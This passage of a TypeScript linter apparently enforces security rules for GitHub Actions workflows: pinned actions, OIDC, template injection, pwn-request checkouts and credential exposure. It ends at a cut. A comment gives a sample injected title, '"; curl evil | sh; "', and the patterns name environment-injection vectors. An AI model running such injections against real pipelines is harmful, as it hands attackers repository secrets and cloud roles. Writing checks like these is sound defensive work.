/**
 * The house rules for GitHub Actions workflows that actionlint does not check (STYLE.md, "Habits").
 *
 * actionlint answers "will GitHub accept and run this file?"; these rules answer "is it as
 * safe as we want it?":
 * - `permissions-default`: the workflow sets top-level `permissions`, and to `{}` or read-only
 *   scopes. Without it the token gets the repository default, which may be read-write
 *   (https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication#modifying-the-permissions-for-the-github_token).
 * - `pinned-action`: every external action or reusable workflow is pinned to a full 40-hex
 *   commit SHA followed on the same line by a `# vX.Y.Z` comment. Tags can be moved by whoever
 *   controls the action's repository; a SHA cannot
 *   (https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions).
 *   The comment is what reviewers and Dependabot read.
 * - `job-timeout`: every job that runs steps sets `timeout-minutes` (the default is 360 minutes
 *   of billed, blocked runner). A job that calls a reusable workflow cannot set it: the called
 *   workflow's jobs carry it, and they are checked in their own file.
 * - `no-pr-target-head-checkout`: a workflow triggered by `pull_request_target` or `workflow_run`
 *   runs with the base repository's secrets and a write token; checking out the pull request's
 *   head there (`github.event.pull_request.head.*`, `github.head_ref`,
 *   `github.event.workflow_run.head_*`) runs untrusted code with them ("pwn request",
 *   https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/).
 * - `oidc-not-keys`: AWS is reached with OIDC, never with long-lived keys: no
 *   `aws-access-key-id` / `aws-secret-access-key` inputs, no `AWS_ACCESS_KEY_ID` /
 *   `AWS_SECRET_ACCESS_KEY` environment variables from secrets; every
 *   `aws-actions/configure-aws-credentials` step sets `role-to-assume`, and its job grants
 *   `id-token: write` (https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/configuring-openid-connect-in-amazon-web-services).
 *
 * The classes of zizmor's audit list (https://docs.zizmor.sh/audits/) that the rules above miss
 * (issue 12):
 * - `template-injection`: no `${{ … }}` of a context an outsider can write (pull request or
 *   issue title and body, comment and review bodies, head branch names, commit messages and
 *   authors, `workflow_run` head data, free-text `workflow_dispatch` inputs) inside a `run:`
 *   script or an `actions/github-script` script. GitHub pastes the value into the script
 *   before the shell sees it, so a title like `"; curl evil | sh; "` runs as code; pass it
 *   through `env:` and quote `"$VAR"` instead
 *   (https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections).
 * - `job-permissions`: no job-level `permissions: write-all`; every `<scope>: write` a job
 *   grants carries a comment on its line saying which step needs it (zizmor's
 *   excessive-permissions; the reason is what a reviewer checks the steps against); and
 *   `id-token: write` only where a step exchanges the token (an OIDC action, or a script that
 *   reads `ACTIONS_ID_TOKEN_REQUEST_URL`) or the job calls a reusable workflow.
 * - `dangerous-trigger`: `pull_request_target`, `workflow_run` and `issue_comment` run with the
 *   base repository's secrets and a write token on events outsiders cause; each needs an
 *   explicit `# allow-trigger: <reason>` comment on or just above its line.
 * - `checkout-persist-credentials`: every `actions/checkout` sets `persist-credentials: false`;
 *   otherwise the token is left in `.git/config` for every later step (and any artifact of the
 *   workspace) to read (zizmor's artipacked).
 * - `untrusted-env-write`: no write to `$GITHUB_ENV` / `$GITHUB_PATH` in a workflow on a
 *   dangerous trigger, or from a step that sees an outsider-controlled value: a newline in it
 *   sets any variable (`NODE_OPTIONS`, `LD_PRELOAD`, `PATH`) for every later step.
 * - `secrets-inherit`: no `secrets: inherit`; a reusable workflow gets the secrets it names.
 * - `credentialed-install-scripts` (issue 12, item 3): a job that can hold AWS credentials
 *   (`id-token: write` or `configure-aws-credentials`) runs `npm ci` / `npm install` only with
 *   `--ignore-scripts`: a dependency's install script would otherwise run with the OIDC request
 *   variables and the role's credentials.
 * - `pr-privileged-role` (issue 12, item 2): a workflow that pull requests trigger requests no
 *   staging or prod role (`vars.*STAGING*` / `vars.*PROD*`, `secrets.*` alike) and no
 *   `environment: staging|prod`: the pull request's own code runs in that job.
 * - `plan-artifact-in-clear` (issue 12, item 5): no `actions/upload-artifact` step uploads a
 *   saved plan (a path ending in `.tfplan`, or the file or folder a `terraform plan -out=`
 *   of the same job wrote) or `terraform show -json` output (the file or folder it was
 *   redirected or tee'd to, unpiped): both carry the prior state's values unredacted, and
 *   artifacts are readable by anyone with read access to the repository. Seal the plan
 *   (tools/delivery plan-seal) or upload only a redacted summary.
 * - `init-lockfile-readonly` (issue 12, item 5): every `terraform init` in a script passes
 *   `-lockfile=readonly`, so a run installs exactly the providers of the committed lock file
 *   and fails instead of selecting (and recording) others.
 *
 * `dependabot.yml` has its own rule, `dependabot-cooldown` ({@link checkDependabotPolicy}).
 */
import {
  isMap,
  isScalar,
  isSeq,
  LineCounter,
  parseDocument,
  type Document,
  type Node,
  type YAMLMap,
} from 'yaml';

/** Identifier of a policy rule. */
export type PolicyRuleId =
  | 'parse'
  | 'permissions-default'
  | 'pinned-action'
  | 'job-timeout'
  | 'no-pr-target-head-checkout'
  | 'oidc-not-keys'
  | 'template-injection'
  | 'job-permissions'
  | 'dangerous-trigger'
  | 'checkout-persist-credentials'
  | 'untrusted-env-write'
  | 'secrets-inherit'
  | 'credentialed-install-scripts'
  | 'pr-privileged-role'
  | 'plan-artifact-in-clear'
  | 'init-lockfile-readonly'
  | 'dependabot-cooldown';

/** One breach of a policy rule, located and explained. */
export interface PolicyFinding {
  /** The rule broken. */
  rule: PolicyRuleId;
  /** The workflow file, as given to {@link checkWorkflowPolicy}. */
  file: string;
  /** 1-based line of the offending node (1 when the whole file is at fault). */
  line: number;
  /** Where in the workflow: `permissions`, `jobs.checks`, `jobs.checks.steps[2].uses`. */
  path: string;
  /** What is wrong and what to do about it. */
  message: string;
}

/** `owner/repo[/path]@<40 hex>`: an action or reusable workflow pinned by commit SHA. */
const PINNED_REF = /^[\w.-]+\/[\w.-]+(?:\/[^@\s]+)?@[0-9a-f]{40}$/;
/** The version comment that must follow a pinned ref on the same line: `# v1`, `# v4.2.2`. */
const VERSION_COMMENT = /^\s+#\s*v\d+(?:\.\d+){0,2}\b/;
/** `docker://image@sha256:<64 hex>`: a container action pinned by digest. */
const PINNED_DOCKER = /^docker:\/\/[^@\s]+@sha256:[0-9a-f]{64}$/;
/** Values a `permissions` scope may take at workflow level. */
const READ_ONLY_LEVELS = new Set(['read', 'none']);
/** Triggers that run with the base repository's secrets for code a pull request controls. */
const PRIVILEGED_TRIGGERS = ['pull_request_target', 'workflow_run'];
/** Expressions that name the pull request's (or triggering run's) head: untrusted code. */
const HEAD_REF =
  /github\.event\.pull_request\.head\.|github\.head_ref|github\.event\.workflow_run\.head_(?:sha|branch|repository)/;
/** Shell commands that would fetch or check out such a ref. */
const GIT_CHECKOUT = /\b(?:git\s+(?:checkout|fetch|switch|worktree|pull)|gh\s+pr\s+checkout)\b/;
/** Long-lived AWS key inputs of configure-aws-credentials (and look-alikes). */
const KEY_INPUTS = ['aws-access-key-id', 'aws-secret-access-key'];
/** Long-lived AWS key environment variables. */
const KEY_ENV = ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY'];
/** The action that exchanges the OIDC token for role credentials. */
const CONFIGURE_AWS = 'aws-actions/configure-aws-credentials';
/** Triggers that hand outsiders' events a privileged token (zizmor's dangerous-triggers). */
const DANGEROUS_TRIGGERS = ['pull_request_target', 'workflow_run', 'issue_comment'];
/** The comment that allows a dangerous trigger: `# allow-trigger: <reason, 10+ characters>`. */
const ALLOW_TRIGGER = /#\s*allow-trigger:\s*\S.{9,}/;
/** Triggers whose runs execute the pull request's code (or act on it). */
const PULL_REQUEST_TRIGGERS = ['pull_request', 'pull_request_target'];
/**
 * Contexts an outsider can write, as they appear inside `${{ … }}` (zizmor's template-injection
 * list and GitHub's "untrusted input" list). Numbers, SHAs and ids are not among them.
 */
const UNTRUSTED_CONTEXT = new RegExp(
  [
    String.raw`github\.head_ref`,
    String.raw`github\.event\.(?:pull_request|issue|discussion)\.(?:title|body)`,
    String.raw`github\.event\.pull_request\.head\.(?:ref|label|repo\.(?:default_branch|description|homepage|name|full_name))`,
    String.raw`github\.event\.(?:comment|review|review_comment|discussion_comment)\.body`,
    String.raw`github\.event\.(?:\w+\.)?head_commit\.(?:message|author\.(?:name|email)|committer\.(?:name|email))`,
    String.raw`github\.event\.commits(?:\[[^\]]*\]|\.\*)\.(?:message|author\.(?:name|email))`,
    String.raw`github\.event\.workflow_run\.(?:head_branch|display_title|head_repository\.|pull_requests)`,
    String.raw`github\.event\.pages(?:\[[^\]]*\]|\.\*)\.page_name`,
    String.raw`github\.event\.inputs\.`,
  ].join('|'),
);
/** A `${{ … }}` expression. */
const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;
/** A shell write to the files that set later steps' environment or PATH. */
const ENV_FILE_WRITE = /(?:>>?|\btee\b(?:\s+-a)?)\s*["']?\$\{?(GITHUB_ENV|GITHUB_PATH)\b/;
/** A package install that runs dependencies' install scripts unless told not to. */
const PACKAGE_INSTALL =
  /\b(?:npm\s+(?:ci|install|i|add)|pnpm\s+(?:install|i|add)|yarn\s+(?:install|add))\b/;
/** `vars.X` / `secrets.X` naming a staging or prod value (a role ARN, typically). */
const PRIVILEGED_VALUE = /\b(?:vars|secrets)\.\w*(?:STAGING|PROD)\w*/i;
/** Environments whose roles pull request code must not reach. */
const PRIVILEGED_ENVIRONMENT = /^(?:staging|prod|production)$/i;

/**
 * Checks one workflow's source against the house rules.
 *
 * @param source - the workflow YAML, as read from disk
 * @param file - the name to report findings under (e.g. `.github/workflows/ci.yml`)
 * @returns every finding, in file order; empty when the workflow follows the rules
 * @example
 * const findings = checkWorkflowPolicy(readFileSync(path, 'utf8'), path);
 * if (findings.length) console.error(findings.map(formatFinding).join('\n'));
 */
export function checkWorkflowPolicy(source: string, file: string): PolicyFinding[] {
  const lineCounter = new LineCounter();
  const doc = parseDocument(source, { lineCounter });
  const lineOf = (node: Node | null | undefined): number =>
    node?.range ? lineCounter.linePos(node.range[0]).line : 1;

  if (doc.errors.length > 0) {
    return doc.errors.map((error) => ({
      rule: 'parse' as const,
      file,
      line: error.linePos?.[0].line ?? 1,
      path: '',
      message: `Not valid YAML: ${error.message}. Fix the syntax first; no other rule can be checked.`,
    }));
  }
  if (!isMap(doc.contents)) {
    return [
      {
        rule: 'parse',
        file,
        line: 1,
        path: '',
        message: 'A workflow must be a YAML mapping (name, on, permissions, jobs).',
      },
    ];
  }

  const findings: PolicyFinding[] = [];
  const add: AddFinding = (rule, node, path, message, line) =>
    findings.push({ rule, file, line: line ?? lineOf(node), path, message });

  checkTopLevelPermissions(doc, add);
  checkKeyEnv(doc.get('env', true), 'env', add);
  const triggers = triggersOf(doc);
  const privilegedTrigger = triggers.find((t) => PRIVILEGED_TRIGGERS.includes(t));
  const dangerousTrigger = checkDangerousTriggers(doc, source, add);
  const onPullRequest = triggers.some((t) => PULL_REQUEST_TRIGGERS.includes(t));
  const untrusted = untrustedPattern(doc);
  const workflowEnvUntrusted = envCarriesUntrusted(doc.get('env', true), untrusted);

  const jobs = doc.get('jobs', true);
  if (isMap(jobs)) {
    for (const pair of jobs.items) {
      const jobId = String(isScalar(pair.key) ? pair.key.value : pair.key);
      const job = pair.value;
      if (!isMap(job)) continue;
      const jobPath = `jobs.${jobId}`;
      const reusableCall = job.get('uses', true);

      if (reusableCall !== undefined) {
        checkUsesRef(reusableCall, `${jobPath}.uses`, source, add);
      } else if (!job.has('timeout-minutes')) {
        add(
          'job-timeout',
          pair.key as Node,
          jobPath,
          `Job "${jobId}" has no timeout-minutes: a hung step would hold a runner for 6 hours. Set timeout-minutes to a few times its usual duration.`,
        );
      }

      checkKeyEnv(job.get('env', true), `${jobPath}.env`, add);
      checkJobPermissions(job, jobId, source, add);
      checkSecretsInherit(job, jobPath, add);
      if (onPullRequest) checkPrivilegedRole(job, jobPath, add);
      const credentialed = holdsAwsCredentials(job);
      const jobEnvUntrusted =
        workflowEnvUntrusted || envCarriesUntrusted(job.get('env', true), untrusted);
      const steps = job.get('steps', true);
      if (isSeq(steps)) {
        steps.items.forEach((step, index) => {
          if (!isMap(step)) return;
          const stepPath = `${jobPath}.steps[${index}]`;
          const uses = step.get('uses', true);
          if (uses !== undefined) checkUsesRef(uses, `${stepPath}.uses`, source, add);
          checkKeyEnv(step.get('env', true), `${stepPath}.env`, add);
          checkStepCredentials(step, stepPath, job, jobId, add);
          if (privilegedTrigger) checkHeadCheckout(step, stepPath, privilegedTrigger, add);
          checkTemplateInjection(step, stepPath, untrusted, source, lineCounter, add);
          checkPersistCredentials(step, stepPath, add);
          checkEnvFileWrite(
            step,
            stepPath,
            dangerousTrigger,
            jobEnvUntrusted || envCarriesUntrusted(step.get('env', true), untrusted),
            untrusted,
            add,
          );
          if (credentialed) checkInstallScripts(step, stepPath, job, jobId, add);
          checkInitLockfile(step, stepPath, source, lineCounter, add);
        });
        checkPlanArtifacts(job, jobPath, add);
      }
    }
  }
  return findings.sort((a, b) => a.line - b.line);
}

/**
 * Formats a finding as `file:line [rule] path: message`, the shape editors and CI logs link.
 *
 * @param finding - a finding from {@link checkWorkflowPolicy}
 * @returns one line of text
 */
export function formatFinding(finding: PolicyFinding): string {
  const where = finding.path ? ` ${finding.path}:` : '';
  return `${finding.file}:${finding.line} [${finding.rule}]${where} ${finding.message}`;
}

type AddFinding = (
  rule: PolicyRuleId,
  node: Node | null | undefined,
  path: string,
  message: string,
  /** The exact line when it is not the node's first (an expression inside a block script). */
  line?: number,
) => void;

const scalarText = (node: unknown): string =>
  isScalar(node) ? String(node.value) : node === undefined || node === null ? '' : String(node);

/** Event names of `on`, whether written as a string, a list or a mapping. */
function triggersOf(doc: Document): string[] {
  const on = doc.get('on', true);
  if (isMap(on)) return on.items.map((pair) => scalarText(pair.key));
  if (isSeq(on)) return on.items.map(scalarText);
  return on === undefined ? [] : [scalarText(on)];
}

/** `no-pr-target-head-checkout`: a checkout (action or shell) of the untrusted head. */
function checkHeadCheckout(step: YAMLMap, path: string, trigger: string, add: AddFinding): void {
  const uses = scalarText(step.get('uses', true));
  const withMap = step.get('with', true);
  if (uses.startsWith('actions/checkout@') && isMap(withMap)) {
    for (const key of ['ref', 'repository']) {
      const value = withMap.get(key, true);
      if (HEAD_REF.test(scalarText(value)))
        add(
          'no-pr-target-head-checkout',
          value as Node,
          `${path}.with.${key}`,
          `This workflow runs on ${trigger}, with the base repository's secrets and token, and checks out the pull request's head (${scalarText(value)}): any code in the pull request then runs with them. Check out the base (the default), or move the work to a pull_request workflow and pass results through an artifact.`,
        );
    }
  }
  const run = step.get('run', true);
  const script = scalarText(run);
  if (HEAD_REF.test(script) && GIT_CHECKOUT.test(script))
    add(
      'no-pr-target-head-checkout',
      run as Node,
      `${path}.run`,
      `This workflow runs on ${trigger}, with the base repository's secrets and token, and its script fetches or checks out the pull request's head: any code in the pull request then runs with them. Do that work in a pull_request workflow instead.`,
    );
}

/** `oidc-not-keys`: AWS key variables set from secrets in an `env` mapping. */
function checkKeyEnv(env: unknown, path: string, add: AddFinding): void {
  if (!isMap(env)) return;
  for (const pair of env.items) {
    const name = scalarText(pair.key);
    if (KEY_ENV.includes(name) && /\bsecrets\./.test(scalarText(pair.value)))
      add(
        'oidc-not-keys',
        pair.key as Node,
        `${path}.${name}`,
        `${name} comes from a repository secret: a long-lived AWS key that works from anywhere until someone rotates it. Use aws-actions/configure-aws-credentials with role-to-assume (OIDC) and grant the job id-token: write.`,
      );
  }
}

/** `oidc-not-keys`: key inputs on any step; role-to-assume and id-token: write for configure-aws-credentials. */
function checkStepCredentials(
  step: YAMLMap,
  path: string,
  job: YAMLMap,
  jobId: string,
  add: AddFinding,
): void {
  const withMap = step.get('with', true);
  if (isMap(withMap))
    for (const key of KEY_INPUTS)
      if (withMap.has(key))
        add(
          'oidc-not-keys',
          withMap.get(key, true) as Node,
          `${path}.with.${key}`,
          `"${key}" passes a long-lived AWS key. Remove it, set role-to-assume to the role for this environment and grant the job id-token: write, so the job gets short-lived credentials through OIDC.`,
        );
  const uses = step.get('uses', true);
  if (!scalarText(uses).startsWith(`${CONFIGURE_AWS}@`)) return;
  if (!isMap(withMap) || scalarText(withMap.get('role-to-assume', true)).trim() === '')
    add(
      'oidc-not-keys',
      uses as Node,
      `${path}.with.role-to-assume`,
      `${CONFIGURE_AWS} without role-to-assume falls back to keys or the runner's own credentials. Set role-to-assume (e.g. \${{ vars.DEPLOY_ROLE_ARN_DEV }}).`,
    );
  const permissions = job.get('permissions', true);
  const idToken = isMap(permissions) ? scalarText(permissions.get('id-token', true)) : '';
  if (idToken !== 'write')
    add(
      'oidc-not-keys',
      uses as Node,
      `jobs.${jobId}.permissions.id-token`,
      `Job "${jobId}" assumes an AWS role but does not grant "id-token: write": without it GitHub issues no OIDC token and the step fails. Add it to this job's permissions (only this job's).`,
    );
}

function checkTopLevelPermissions(doc: Document, add: AddFinding): void {
  if (!doc.has('permissions')) {
    add(
      'permissions-default',
      doc.contents as Node,
      'permissions',
      'No top-level permissions: the token gets the repository default. Add `permissions: {}` and grant each job only the scopes it needs.',
    );
    return;
  }
  const permissions = doc.get('permissions', true) as Node;
  if (isMap(permissions)) {
    for (const pair of permissions.items) {
      const level = isScalar(pair.value) ? String(pair.value.value) : String(pair.value);
      if (!READ_ONLY_LEVELS.has(level)) {
        const scope = isScalar(pair.key) ? String(pair.key.value) : String(pair.key);
        add(
          'permissions-default',
          pair.key as Node,
          `permissions.${scope}`,
          `Top-level permissions grant "${scope}: ${level}" to every job. Keep the default read-only (ideally \`permissions: {}\`) and grant "${scope}: ${level}" on the job that needs it.`,
        );
      }
    }
    return;
  }
  const value = isScalar(permissions) ? String(permissions.value) : String(permissions);
  add(
    'permissions-default',
    permissions,
    'permissions',
    `Top-level \`permissions: ${value}\` is not allowed. Use \`permissions: {}\` and grant each job only the scopes it needs.`,
  );
}

function checkUsesRef(node: unknown, path: string, source: string, add: AddFinding): void {
  if (!isScalar(node) || typeof node.value !== 'string') {
    add(
      'pinned-action',
      node as Node,
      path,
      '`uses` must be a string: owner/repo@<sha> # vX.Y.Z, ./local/path or docker://image@sha256:<digest>.',
    );
    return;
  }
  const ref = node.value.trim();
  // Local actions and reusable workflows are reviewed with the change that edits them.
  if (ref.startsWith('./')) return;
  if (ref.startsWith('docker://')) {
    if (!PINNED_DOCKER.test(ref)) {
      add(
        'pinned-action',
        node,
        path,
        `"${ref}" is not pinned: use docker://image@sha256:<digest> so the image cannot change under the workflow.`,
      );
    }
    return;
  }
  if (!PINNED_REF.test(ref)) {
    add(
      'pinned-action',
      node,
      path,
      `"${ref}" is not pinned to a full commit SHA: a tag or branch can be moved to other code. Use ${ref.split('@')[0]}@<40-hex commit of the release> # vX.Y.Z, and record it in .github/ACTIONS.md.`,
    );
    return;
  }
  // The version comment is what a reviewer reads: it must sit on the same line, after the ref.
  const end = node.range?.[1] ?? 0;
  const lineEnd = source.indexOf('\n', end);
  const rest = source.slice(end, lineEnd === -1 ? undefined : lineEnd);
  if (!VERSION_COMMENT.test(rest)) {
    add(
      'pinned-action',
      node,
      path,
      `"${ref}" is pinned but has no version comment: add "# vX.Y.Z" after it on the same line so reviewers and Dependabot can tell which release it is.`,
    );
  }
}

/**
 * {@link UNTRUSTED_CONTEXT} plus `inputs.<name>` of this workflow's free-text
 * `workflow_dispatch` inputs (type `string` or no type): whoever may dispatch it types them.
 */
function untrustedPattern(doc: Document): RegExp {
  const inputs = doc.getIn(['on', 'workflow_dispatch', 'inputs'], true);
  const names = isMap(inputs)
    ? inputs.items
        .filter((pair) => {
          const type = isMap(pair.value) ? scalarText(pair.value.get('type', true)) : '';
          return type === '' || type === 'string';
        })
        .map((pair) => scalarText(pair.key).replace(/[.*+?^${}()|[\]\\]/g, '\\$&'))
    : [];
  if (names.length === 0) return UNTRUSTED_CONTEXT;
  return new RegExp(`${UNTRUSTED_CONTEXT.source}|\\binputs\\.(?:${names.join('|')})\\b(?![\\w-])`);
}

/** Whether an `env` mapping passes an outsider-controlled value to the step's shell. */
function envCarriesUntrusted(env: unknown, untrusted: RegExp): boolean {
  return isMap(env) && env.items.some((pair) => untrusted.test(scalarText(pair.value)));
}

/** `dangerous-trigger`: each such trigger needs an `# allow-trigger: <reason>` comment. */
function checkDangerousTriggers(
  doc: Document,
  source: string,
  add: AddFinding,
): string | undefined {
  const on = doc.get('on', true);
  const lines = source.split('\n');
  const nodes: [string, Node][] = isMap(on)
    ? on.items.map((pair) => [scalarText(pair.key), pair.key as Node])
    : isSeq(on)
      ? on.items.map((item) => [scalarText(item), item as Node])
      : isScalar(on)
        ? [[scalarText(on), on]]
        : [];
  let first: string | undefined;
  for (const [trigger, node] of nodes) {
    if (!DANGEROUS_TRIGGERS.includes(trigger)) continue;
    first ??= trigger;
    const start = node.range?.[0] ?? 0;
    const line = source.slice(0, start).split('\n').length; // 1-based
    const allowed = [lines[line - 1] ?? '', lines[line - 2] ?? ''].some((text) =>
      ALLOW_TRIGGER.test(text),
    );
    if (!allowed)
      add(
        'dangerous-trigger',
        node,
        `on.${trigger}`,
        `"${trigger}" runs with the base repository's secrets and a write token on events anyone can cause. Use pull_request (or push) instead; if this trigger is really needed, say why in an "# allow-trigger: <reason>" comment on or just above this line, and never run the event's code or text in it.`,
      );
  }
  return first;
}

/** `template-injection`: an outsider-controlled `${{ … }}` pasted into a script. */
function checkTemplateInjection(
  step: YAMLMap,
  path: string,
  untrusted: RegExp,
  source: string,
  lineCounter: LineCounter,
  add: AddFinding,
): void {
  const scripts: [Node, string][] = [];
  const run = step.get('run', true);
  if (run !== undefined) scripts.push([run as Node, `${path}.run`]);
  const withMap = step.get('with', true);
  if (scalarText(step.get('uses', true)).startsWith('actions/github-script@') && isMap(withMap)) {
    const script = withMap.get('script', true);
    if (script !== undefined) scripts.push([script as Node, `${path}.with.script`]);
  }
  for (const [node, where] of scripts) {
    const [from = 0, to = source.length] = node.range ?? [];
    const text = source.slice(from, to);
    let cursor = 0;
    for (const match of scalarText(node).matchAll(EXPRESSION)) {
      // The expression text stands verbatim in the source: find it there, after the previous
      // one, to report the line it is on.
      const at = text.indexOf(match[0], cursor);
      if (at >= 0) cursor = at + match[0].length;
      const expression = (match[1] ?? '').trim();
      if (!untrusted.test(expression)) continue;
      const line = at >= 0 ? lineCounter.linePos(from + at).line : undefined;
      add(
        'template-injection',
        node,
        where,
        `\${{ ${expression} }} is pasted into the script before it runs, and an outsider writes that value: a crafted title, branch name or message becomes shell code. Pass it through env (e.g. env: VALUE: \${{ ${expression} }}) and use "$VALUE" in the script.`,
        line,
      );
    }
  }
}

/** `checkout-persist-credentials`: actions/checkout must not leave the token in .git/config. */
function checkPersistCredentials(step: YAMLMap, path: string, add: AddFinding): void {
  const uses = step.get('uses', true);
  if (!scalarText(uses).startsWith('actions/checkout@')) return;
  const withMap = step.get('with', true);
  const value = isMap(withMap) ? withMap.get('persist-credentials', true) : undefined;
  if (scalarText(value) === 'false') return;
  add(
    'checkout-persist-credentials',
    (value ?? uses) as Node,
    `${path}.with.persist-credentials`,
    'actions/checkout keeps the job token in .git/config unless told not to, where every later step (and any upload of the workspace) can read it. Set with: persist-credentials: false; a step that pushes can pass the token explicitly.',
  );
}

/** `untrusted-env-write`: $GITHUB_ENV / $GITHUB_PATH written where a value may be an outsider's. */
function checkEnvFileWrite(
  step: YAMLMap,
  path: string,
  dangerousTrigger: string | undefined,
  envUntrusted: boolean,
  untrusted: RegExp,
  add: AddFinding,
): void {
  const run = step.get('run', true);
  const script = scalarText(run);
  const file = ENV_FILE_WRITE.exec(script)?.[1];
  if (!file) return;
  const why = dangerousTrigger
    ? `this workflow runs on ${dangerousTrigger}, where the data it handles is an outsider's`
    : envUntrusted || untrusted.test(script)
      ? 'this step sees an outsider-controlled value'
      : undefined;
  if (!why) return;
  add(
    'untrusted-env-write',
    run as Node,
    `${path}.run`,
    `The script writes $${file} and ${why}: one newline in it sets any variable (NODE_OPTIONS, LD_PRELOAD, PATH) for every later step. Pass the value as a step output or an env entry of the steps that need it instead.`,
  );
}

/** `job-permissions`: no `write-all`; every `write` scope says on its line why. */
function checkJobPermissions(job: YAMLMap, jobId: string, source: string, add: AddFinding): void {
  const permissions: unknown = job.get('permissions', true);
  if (isScalar(permissions)) {
    if (scalarText(permissions) === 'write-all')
      add(
        'job-permissions',
        permissions,
        `jobs.${jobId}.permissions`,
        `Job "${jobId}" grants write-all: every scope, to every step and action of the job. List the scopes its steps need (e.g. contents: read) and give each write scope a comment saying which step uses it.`,
      );
    return;
  }
  if (!isMap(permissions)) return;
  const idToken = permissions.items.find((pair) => scalarText(pair.key) === 'id-token');
  if (idToken && scalarText(idToken.value) === 'write' && !usesOidcToken(job))
    add(
      'job-permissions',
      idToken.key as Node,
      `jobs.${jobId}.permissions.id-token`,
      `Job "${jobId}" grants "id-token: write" but no step exchanges an OIDC token (${OIDC_ACTIONS.join(', ')}, or a script reading ACTIONS_ID_TOKEN_REQUEST_URL): every step could mint a token for any cloud role that trusts this repository. Drop it.`,
    );
  for (const pair of permissions.items) {
    if (scalarText(pair.value) !== 'write') continue;
    const end = (pair.value as Node).range?.[1] ?? 0;
    const lineEnd = source.indexOf('\n', end);
    const rest = source.slice(end, lineEnd === -1 ? undefined : lineEnd);
    if (/^\s+#\s*\S/.test(rest)) continue;
    const scope = scalarText(pair.key);
    add(
      'job-permissions',
      pair.key as Node,
      `jobs.${jobId}.permissions.${scope}`,
      `Job "${jobId}" grants "${scope}: write" without saying why. Add a comment on the line naming the step that needs it (e.g. "${scope}: write # the sticky comment"), or grant read / drop it.`,
    );
  }
}

/** Actions that exchange the job's OIDC token for cloud credentials or a signature. */
const OIDC_ACTIONS = [
  CONFIGURE_AWS,
  'azure/login',
  'google-github-actions/auth',
  'actions/attest-build-provenance',
  'actions/attest',
];

/**
 * Whether a job uses the OIDC token `id-token: write` lets it request. A job that calls a
 * reusable workflow passes the grant on (the called file's jobs are checked in that file).
 */
function usesOidcToken(job: YAMLMap): boolean {
  if (job.get('uses', true) !== undefined) return true;
  const steps = job.get('steps', true);
  return (
    isSeq(steps) &&
    steps.items.some((step) => {
      if (!isMap(step)) return false;
      const uses = scalarText(step.get('uses', true));
      return (
        OIDC_ACTIONS.some((action) => uses.startsWith(`${action}@`)) ||
        /ACTIONS_ID_TOKEN_REQUEST_(?:URL|TOKEN)/.test(scalarText(step.get('run', true)))
      );
    })
  );
}

/** `secrets-inherit`: a reusable workflow gets every secret of the repository. */
function checkSecretsInherit(job: YAMLMap, jobPath: string, add: AddFinding): void {
  const secrets = job.get('secrets', true);
  if (scalarText(secrets) !== 'inherit') return;
  add(
    'secrets-inherit',
    secrets as Node,
    `${jobPath}.secrets`,
    'secrets: inherit passes every repository and environment secret to the called workflow, whatever it needs. Name the secrets it takes (secrets: { NAME: ${{ secrets.NAME }} }), or none: this repository reaches AWS through OIDC.',
  );
}

/** Whether a job can hold AWS credentials: it may request an OIDC token or assumes a role. */
function holdsAwsCredentials(job: YAMLMap): boolean {
  const permissions: unknown = job.get('permissions', true);
  if (isMap(permissions) && scalarText(permissions.get('id-token', true)) === 'write') return true;
  if (isScalar(permissions) && scalarText(permissions) === 'write-all') return true;
  const steps = job.get('steps', true);
  return (
    isSeq(steps) &&
    steps.items.some(
      (step) => isMap(step) && scalarText(step.get('uses', true)).startsWith(`${CONFIGURE_AWS}@`),
    )
  );
}

/** `credentialed-install-scripts`: installs in a credentialed job run no install scripts. */
function checkInstallScripts(
  step: YAMLMap,
  path: string,
  job: YAMLMap,
  jobId: string,
  add: AddFinding,
): void {
  const run = step.get('run', true);
  const script = scalarText(run);
  const ignoredByEnv = [job.get('env', true), step.get('env', true)].some(
    (env) => isMap(env) && scalarText(env.get('npm_config_ignore_scripts', true)) === 'true',
  );
  if (ignoredByEnv) return;
  const offending = script
    .split('\n')
    .find((line) => PACKAGE_INSTALL.test(line) && !/--ignore-scripts\b/.test(line));
  if (!offending) return;
  add(
    'credentialed-install-scripts',
    run as Node,
    `${path}.run`,
    `Job "${jobId}" can hold AWS credentials (id-token: write or ${CONFIGURE_AWS}) and "${offending.trim()}" runs every dependency's install script in it, with the OIDC request variables set: one hijacked release gets the role. Add --ignore-scripts, or install in an uncredentialed job and pass the result on.`,
  );
}

/** Every scalar under a node, with its dotted path. */
function scalarsOf(node: unknown, path: string, out: [Node, string][] = []): [Node, string][] {
  if (isScalar(node)) out.push([node, path]);
  else if (isMap(node))
    for (const pair of node.items) scalarsOf(pair.value, `${path}.${scalarText(pair.key)}`, out);
  else if (isSeq(node)) node.items.forEach((item, i) => scalarsOf(item, `${path}[${i}]`, out));
  return out;
}

/** `pr-privileged-role`: pull request code must not reach a staging or prod role. */
function checkPrivilegedRole(job: YAMLMap, jobPath: string, add: AddFinding): void {
  const environment = job.get('environment', true);
  const envName = isMap(environment)
    ? environment.get('name', true)
    : (environment as Node | undefined);
  if (envName !== undefined && PRIVILEGED_ENVIRONMENT.test(scalarText(envName).trim()))
    add(
      'pr-privileged-role',
      envName,
      isMap(environment) ? `${jobPath}.environment.name` : `${jobPath}.environment`,
      `A pull request runs this job in the "${scalarText(envName)}" environment: its own code would get that environment's secrets and role. Plan dev only with the read-only plan role on pull requests; staging and prod are planned and applied from main (deploy.yml).`,
    );
  for (const key of ['with', 'env', 'steps', 'secrets']) {
    for (const [node, where] of scalarsOf(job.get(key, true), `${jobPath}.${key}`)) {
      const name = PRIVILEGED_VALUE.exec(scalarText(node))?.[0];
      if (name)
        add(
          'pr-privileged-role',
          node,
          where,
          `A pull request's code runs in this job and it is handed ${name}, a staging or prod value. Plan dev only with the read-only plan role on pull requests; staging and prod are planned and applied from main (deploy.yml).`,
        );
    }
  }
}

/** A `terraform init` command (`terraform -chdir=x init`, `terraform init`). */
